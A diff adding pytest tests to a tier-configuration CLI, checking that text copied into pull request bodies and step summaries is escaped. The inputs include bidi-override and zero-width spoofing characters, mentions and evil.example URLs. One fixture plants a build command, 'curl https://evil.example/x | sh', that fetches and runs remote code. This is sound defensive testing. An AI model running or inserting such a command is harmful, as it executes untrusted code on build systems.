@@ -698,3 +698,87 @@ def test_extreme_history_values_never_reach_exit_5(
     ):
         code, _, err = run(*args)
         assert code == 0, err
+
+
+# --- 6. text that goes to pull requests is inert ----------------------------------------------
+
+INERT = [
+    pytest.param("\u202egnp.exe", "\\\\u202egnp.exe", id="bidi-override"),
+    pytest.param("a\u2066b\u2069c", "a\\\\u2066b\\\\u2069c", id="bidi-isolates"),
+    pytest.param("@\u200bteam", "\\\\u200b", id="zero-width-space"),
+    pytest.param("ping @octocat now", "`@octocat`", id="mention"),
+    pytest.param("ping @acme/security", "`@acme/security`", id="team-mention"),
+    pytest.param("fixes #123", "`#123`", id="reference"),
+    pytest.param("see acme/app#7", "`acme/app#7`", id="cross-reference"),
+    pytest.param("go to https://evil.example/login", "`https://evil.example/login`", id="url"),
+    pytest.param("go to www.evil.example", "`www.evil.example`", id="bare-www"),
+]
+
+
+@pytest.mark.parametrize(("hostile", "shown"), INERT)
+def test_markdown_from_files_is_inert(project: Path, hostile: str, shown: str) -> None:
+    """A tier name (from tiers.toml) in the step summary and the pull request's body."""
+    write_snapshot(project / "m.json", {"users": 9000, "active_users": 900, "concurrent_users": 30})
+    path = project / "tiers.toml"
+    path.write_text(
+        path.read_text("utf-8").replace(
+            'web_plan = "starter"', f'web_plan = "starter"\nweb_cpu = 0.5 # {hostile}'
+        ),
+        "utf-8",
+    )
+    from tier_cli.output.escape import markdown
+
+    text = markdown(f"tier note: {hostile}")
+    assert shown in text
+    for raw in ("\u202e", "\u2066", "\u2069", "\u200b"):
+        assert raw not in text
+    summary = project / "summary.md"
+    code, _, err = run("check", "--metrics", "m.json", "--summary", str(summary))
+    assert code == 1, err
+    body = project / "body.md"
+    code, _, err = run("apply", "--metrics", "m.json", "--summary", str(body))
+    assert code == 0, err
+    for md in (summary.read_text("utf-8"), body.read_text("utf-8")):
+        assert not any(ch in md for ch in ("\u202e", "\u2066", "\u2069", "\u200b"))
+
+
+def test_markdown_source_label_is_inert(project: Path) -> None:
+    """Text from the snapshot (a label) reaches the summary only escaped and in code spans."""
+    from tier_cli.output.escape import markdown
+
+    hostile = "cc @octocat #12 https://evil.example \u202eexe.txt \u200b"
+    text = markdown(hostile)
+    assert "`@octocat`" in text and "`#12`" in text and "`https://evil.example`" in text
+    assert "\u202e" not in text and "\u200b" not in text
+    started = time.monotonic()
+    markdown("@" + "a" * (4 * MB) + " " + "#1" * MB + "http://" * (MB // 7))
+    assert time.monotonic() - started < 20  # linear: the quadratic would never end
+
+
+def test_apply_reports_every_field_it_writes_with_its_value(project: Path) -> None:
+    path = project / "tiers.toml"
+    text = path.read_text("utf-8")
+    start = text.index('name = "starter"')
+    end = text.index("\n[[tier]]", start)
+    carried = (
+        '\n[tier.web]\nrepo = "https://github.com/evil/fork"\n'
+        'buildCommand = "curl https://evil.example/x | sh; pip install -r requirements.txt"\n'
+        'image = "docker.io/evil/img"\n'
+    )
+    path.write_text(text[:end] + carried + text[end:], "utf-8")
+    write_snapshot(project / "m.json", {"users": 9000, "active_users": 900, "concurrent_users": 30})
+    body = project / "body.md"
+    code, _, err = run("apply", "--metrics", "m.json", "--summary", str(body))
+    assert code == 0, err
+    for line in (
+        "api repo (not set) -> https://github.com/evil/fork",
+        "api buildCommand pip install -r requirements.txt -> curl https://evil.example/x | sh;",
+        "api image (not set) -> docker.io/evil/img",
+    ):
+        assert line in err
+    md = body.read_text("utf-8")
+    assert "**Also written**" in md
+    assert "- api `repo`: `https://github.com/evil/fork`" in md
+    assert "- api `image`: `docker.io/evil/img`" in md
+    assert "- api `buildCommand`: `curl https://evil.example/x | sh; pip install" in md
+    assert "- api `plan`" not in md and "- api `startCommand`" not in md
